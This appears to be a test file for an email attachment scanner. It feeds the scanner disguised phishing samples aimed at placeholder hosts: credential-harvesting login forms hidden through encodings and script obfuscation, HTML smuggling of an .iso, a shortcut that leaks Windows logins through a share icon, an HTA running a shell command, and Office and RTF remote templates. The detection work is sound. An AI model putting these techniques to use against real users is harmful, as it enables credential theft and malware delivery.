// Files that are what they are under another encoding, layout or name than the common one: a
// page in UTF-16 or opening with <title>, a shortcut with a [DEFAULT] section, markup Windows
// runs (.hta, .wsf), files that connect to the sender's machine (.rdp), Office parts quoted with
// ' instead of ", RTF documents, and pages that show another site in a frame.
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { zipSync, strToU8 } from 'fflate';
import CFB from 'cfb';
import { attachmentsDetector } from '../../src/detectors/attachments.ts';
import { attachmentReport } from '../../src/attachments/analyze.ts';
import { DEFAULT_LIMITS } from '../../src/limits.ts';
import { attachment, codes, facts, run } from './helpers.ts';
import type { AttachmentFact } from '../../src/message/facts.ts';

const LOGIN_FORM = '<form action="https://collect.example/p.php" method="post">ID <input name="user"> PW <input type="password" name="pw"></form>';

const found = async (...files: AttachmentFact[]) => codes(await run(attachmentsDetector, facts({ text: '請求書を添付いたします。', attachments: files })));
const linksOf = async (...files: AttachmentFact[]) => (await attachmentReport(facts({ text: 'x', attachments: files }), DEFAULT_LIMITS)).links.map((link) => link.raw);

function utf16le(text: string): Uint8Array {
  return new Uint8Array(Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]));
}

/** An OOXML zip with `[Content_Types].xml` first, as Office writes it. */
function ooxml(parts: Record<string, string>): Uint8Array {
  return zipSync({ '[Content_Types].xml': strToU8(parts['[Content_Types].xml'] ?? ''), ...Object.fromEntries(Object.entries(parts).map(([name, text]) => [name, strToU8(text)])) });
}

describe('pages whatever their encoding or first tag', () => {
  it('reads a login page written in UTF-16, which file-type takes for MPEG audio', async () => {
    assert.ok((await found(attachment('invoice.html', utf16le(`<html><body>${LOGIN_FORM}</body></html>`)))).includes('ATTACH_HTML_FORM'));
  });

  it('reads a page that opens with <title>, a long <style> or a long comment', async () => {
    const openings = [`<title>請求書</title>${LOGIN_FORM}`, `<style>${'p{margin:0}\n'.repeat(200)}</style>${LOGIN_FORM}`, `<!-- ${'x'.repeat(8000)} -->\n<div>${LOGIN_FORM}</div>`];
    for (const page of openings) assert.ok((await found(attachment('invoice.htm', page))).includes('ATTACH_HTML_FORM'), page.slice(0, 30));
  });

  it('does not take text that mentions a tag for a page', async () => {
    assert.deepEqual(await found(attachment('notes.txt', 'Put the <title> and <style> elements first.\nSee chapter 3.')), []);
  });

  it('reads a frame that shows another site, a form written into a frame, and a password box drawn as dots', async () => {
    assert.ok((await found(attachment('view.html', '<html><body style="margin:0"><iframe src="https://collect.example/login" style="width:100%;height:100%"></iframe></body></html>'))).includes('ATTACH_HTML_REDIRECT'));
    assert.ok((await linksOf(attachment('view.html', '<object data="https://collect.example/login" type="text/html"></object>'))).includes('https://collect.example/login'));
    const srcdoc = `<iframe srcdoc="${LOGIN_FORM.replace(/"/g, '&quot;')}"></iframe>`;
    assert.ok((await found(attachment('view.html', srcdoc))).includes('ATTACH_HTML_FORM'));
    const masked = '<form action="https://collect.example/p">ID <input name="u"> PW <input type="text" name="k" style="-webkit-text-security:disc"></form>';
    assert.ok((await found(attachment('view.html', masked))).includes('ATTACH_HTML_FORM'));
  });
});

describe('pages a script builds from its own strings', () => {
  it('reads a form written into innerHTML in pieces, with the action the script gives it', async () => {
    const page = `<div id="r"></div><script>var f=document.createElement('form');f.action='https://collect.example/auth.php';f.innerHTML='<inp'+'ut name=u><inp'+'ut type=pass'+'word name=p>';document.getElementById('r').appendChild(f);</script>`;
    assert.ok((await found(attachment('invoice.html', page))).includes('ATTACH_HTML_FORM'));
    assert.ok((await linksOf(attachment('invoice.html', page))).includes('https://collect.example/auth.php'));
  });

  it('reads a page the script writes from a percent-encoded or base64 string', async () => {
    const encoded = `<script>var x=unescape("${[...Buffer.from(LOGIN_FORM)].map((b) => `%${b.toString(16).padStart(2, '0')}`).join('')}");document.write(x);</script>`;
    assert.ok((await found(attachment('invoice.html', encoded))).includes('ATTACH_HTML_FORM'));
    const base64 = `<script>var d="${Buffer.from(LOGIN_FORM).toString('base64')}";document.body.innerHTML=window["at"+"ob"](d);</script>`;
    const codesFound = await found(attachment('invoice.html', base64));
    assert.ok(codesFound.includes('ATTACH_HTML_FORM') && codesFound.includes('ATTACH_HTML_SMUGGLING'), codesFound.join());
  });

  it('follows a short script to the one address it builds, in a variable or encoded', async () => {
    const variable = '<script>var u="https://collect.example/"+"doc?id=88";window.location.href=u;</script>';
    assert.ok((await linksOf(attachment('invoice.html', variable))).includes('https://collect.example/doc?id=88'));
    const svg = `<svg xmlns="http://www.w3.org/2000/svg"><script><![CDATA[var d="${Buffer.from('https://collect.example/m').toString('base64')}"; var t=window; t["loc"+"ation"]["href"]=t["at"+"ob"](d);]]></script></svg>`;
    assert.ok((await found(attachment('invoice.svg', svg))).includes('ATTACH_HTML_REDIRECT'));
  });

  it('reads smuggling spelled in pieces', async () => {
    const page = '<script>var w=window,k="at"+"ob";var b=new w.Blob([w[k]("QUJD")]);var a=document.createElement("a");a.href=w.URL["createObject"+"URL"](b);a["down"+"load"]="Invoice.i"+"so";a.click();</script>';
    assert.ok((await found(attachment('invoice.html', page))).includes('ATTACH_HTML_SMUGGLING'));
  });

  it('reads a script built to be slow in one pass: an unclosed string full of escaped quotes, a thousand joins', async () => {
    for (const script of [`"${'a\\"'.repeat(300_000)}`, `"a"${'+"a"'.repeat(300_000)}`, `w${'["ab"]'.repeat(200_000)}`]) {
      const started = performance.now();
      await found(attachment('slow.html', `<html><body><script>${script}</script></body></html>`));
      assert.ok(performance.now() - started < 2_000, script.slice(0, 12));
    }
  });

  it('does not take a page script that compares or builds many addresses for a redirect', async () => {
    const menu = '<script>if (location.href == "https://shop.example/") { show(); } var pages = ["https://shop.example/a", "https://shop.example/b"]; function go(i) { location.href = pages[i]; }</script><p>Menu</p>';
    assert.deepEqual(await found(attachment('menu.html', menu)), ['ATTACH_HTML']);
  });
});

describe('saved web pages', () => {
  const mhtml = (encoding: 'base64' | 'quoted-printable') => {
    const page = `<html><body>${LOGIN_FORM}</body></html>`;
    const body = encoding === 'base64' ? Buffer.from(page).toString('base64') : page.replace(/=/g, '=3D');
    return `MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="b1"\r\n\r\n--b1\r\nContent-Type: text/html; charset="utf-8"\r\nContent-Transfer-Encoding: ${encoding}\r\nContent-Location: file:///C:/invoice.htm\r\n\r\n${body}\r\n--b1--\r\n`;
  };

  it('reads the page inside an .mht, base64 or quoted-printable, alone or in a zip', async () => {
    for (const encoding of ['base64', 'quoted-printable'] as const) {
      assert.ok((await found(attachment('invoice.mht', mhtml(encoding)))).includes('ATTACH_HTML_FORM'), encoding);
      assert.ok((await linksOf(attachment('invoice.mht', mhtml(encoding)))).includes('https://collect.example/p.php'), encoding);
    }
    assert.ok((await found(attachment('invoice.zip', zipSync({ 'invoice.mht': strToU8(mhtml('base64')) })))).includes('ATTACH_HTML_FORM'));
  });
});

describe('files Windows runs or connects with', () => {
  it('reads a shortcut that opens with a [DEFAULT] section', async () => {
    const shortcut = attachment('invoice.url', '[DEFAULT]\r\nBASEURL=file://203.0.113.7/share/invoice.pdf.exe\r\n[InternetShortcut]\r\nURL=file://203.0.113.7/share/invoice.pdf.exe\r\n');
    assert.ok((await found(shortcut)).includes('ATTACH_LINK_FILE'));
    assert.ok((await linksOf(shortcut)).includes('file://203.0.113.7/share/invoice.pdf.exe'));
    assert.deepEqual(await found(attachment('notes.txt', '[Notes]\r\nBring the invoice.\r\n')), []);
  });

  it('tells a shortcut to a web page, a link kept in a file, from one that also reaches a share', async () => {
    const saved = '[DEFAULT]\r\nBASEURL=http://www.example.edu/essay.html\r\n[InternetShortcut]\r\nURL=http://www.example.edu/essay.html\r\n';
    assert.deepEqual(await found(attachment('essay.url', saved)), ['ATTACH_WEB_SHORTCUT']);
    // The icon loaded from a share sends the Windows login to whoever runs it.
    const leaking = `${saved}IconFile=\\\\203.0.113.7\\icons\\pdf.ico\r\n`;
    assert.ok((await found(attachment('essay.url', leaking))).includes('ATTACH_LINK_FILE'));
  });

  it('calls an HTML application or a Windows script file a program, though it is markup', async () => {
    assert.ok((await found(attachment('invoice.hta', '<html><head><script language="VBScript">CreateObject("WScript.Shell").Run "calc"</script></head></html>'))).includes('ATTACH_EXECUTABLE'));
    assert.ok((await found(attachment('invoice.wsf', '<job><script language="JScript">WScript.Echo(1)</script></job>'))).includes('ATTACH_EXECUTABLE'));
    // The same page named .html is a page.
    assert.ok(!(await found(attachment('invoice.html', '<html><head><script>var a = 1;</script></head></html>'))).includes('ATTACH_EXECUTABLE'));
  });

  it('flags remote desktop settings, search connectors and ClickOnce references, and a raw disk image by its name', async () => {
    const rdp = attachment('meeting.rdp', utf16le('full address:s:203.0.113.7\r\nredirectdrives:i:1\r\nredirectclipboard:i:1\r\n'));
    const connector = attachment('docs.searchConnector-ms', '<?xml version="1.0"?><searchConnectorDescription><simpleLocation><url>https://203.0.113.7@SSL/DavWWWRoot/</url></simpleLocation></searchConnectorDescription>');
    const clickOnce = attachment('update.appref-ms', 'https://203.0.113.7/app.application#app.application, Culture=neutral');
    for (const file of [rdp, connector, clickOnce]) assert.ok((await found(file)).includes('ATTACH_EXECUTABLE'), file.filename);
    const fat = new Uint8Array(4096);
    fat.set([0xeb, 0x3c, 0x90, 0x4d, 0x53, 0x44, 0x4f, 0x53], 0);
    fat.set([0x55, 0xaa], 510);
    assert.ok((await found(attachment('invoice.img', fat))).includes('ATTACH_DISK_IMAGE'));
  });
});

describe('Office documents however they are quoted, and RTF', () => {
  const contentTypes = (main: string) => `<?xml version='1.0'?><Types xmlns='http://schemas.openxmlformats.org/package/2006/content-types'><Override PartName='/word/document.xml' ContentType='${main}'/></Types>`;

  it("reads content types and relationships written with ' quotes", async () => {
    const macro = ooxml({ '[Content_Types].xml': contentTypes('application/vnd.ms-word.document.macroEnabled.main+xml'), 'word/document.xml': '<w:document/>', 'word/vbaProject.bin': 'VBA' });
    assert.ok((await found(attachment('invoice.docm', macro))).includes('ATTACH_MACRO'));
    const template = ooxml({
      '[Content_Types].xml': contentTypes('application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml'),
      'word/document.xml': '<w:document/>',
      'word/_rels/settings.xml.rels': "<Relationships><Relationship Id='rId1' Type='http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate' Target='https://collect.example/t.dotm' TargetMode='External'/></Relationships>",
    });
    assert.ok((await found(attachment('invoice.docx', template))).includes('ATTACH_OFFICE_REMOTE'));
    assert.ok((await linksOf(attachment('invoice.docx', template))).includes('https://collect.example/t.dotm'));
  });

  it('reads links kept only in field codes, in a .docx split over runs and in a legacy .doc', async () => {
    const docx = ooxml({
      '[Content_Types].xml': contentTypes('application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml'),
      'word/document.xml': '<w:document><w:body><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> HYPERLINK &quot;https://collect.</w:instrText></w:r><w:r><w:instrText>example/inv&quot; </w:instrText></w:r><w:r><w:t>請求書</w:t></w:r></w:p></w:body></w:document>',
    });
    assert.deepEqual(await linksOf(attachment('invoice.docx', docx)), ['https://collect.example/inv']);
    const container = CFB.utils.cfb_new();
    CFB.utils.cfb_add(container, 'WordDocument', Buffer.from('\x13 HYPERLINK "https://collect.example/view" \x14請求書\x15', 'utf16le'));
    const doc = new Uint8Array(CFB.write(container, { type: 'buffer' }) as Buffer);
    assert.deepEqual(await linksOf(attachment('invoice.doc', doc)), ['https://collect.example/view']);
    assert.ok((await found(attachment('invoice.doc', doc))).includes('ATTACH_OFFICE_LINKS'));
  });

  it('lists every entry of an archive that merely carries a document', async () => {
    const document = ooxml({ '[Content_Types].xml': contentTypes('x'), 'word/document.xml': '<w:document/>' });
    const carrier = zipSync({ 'report.docx': [document, { level: 0 }], 'setup.exe': strToU8('MZ') });
    assert.ok((await found(attachment('files.zip', carrier))).includes('ATTACH_EXECUTABLE'));
  });

  it('reads the template, the auto-updated linked object and the links of an RTF document, under any name', async () => {
    const rtf = String.raw`{\rtf1\ansi{\*\template https://collect.example/t.dotm}{\object\objautlink\objupdate\rsltpict{\*\objdata 0105000002000000}}{\field{\*\fldinst HYPERLINK "https://collect.example/inv"}{\fldrslt click}}}`;
    for (const name of ['invoice.rtf', 'invoice.doc']) {
      const codesFound = await found(attachment(name, rtf));
      assert.ok(codesFound.includes('ATTACH_OFFICE_REMOTE'), `${name}: ${codesFound}`);
      assert.deepEqual((await linksOf(attachment(name, rtf))).sort(), ['https://collect.example/inv', 'https://collect.example/t.dotm']);
    }
    assert.deepEqual(await found(attachment('minutes.rtf', String.raw`{\rtf1\ansi{\fonttbl{\f0 Arial;}}\f0 Minutes of the meeting.\par}`)), []);
  });
});
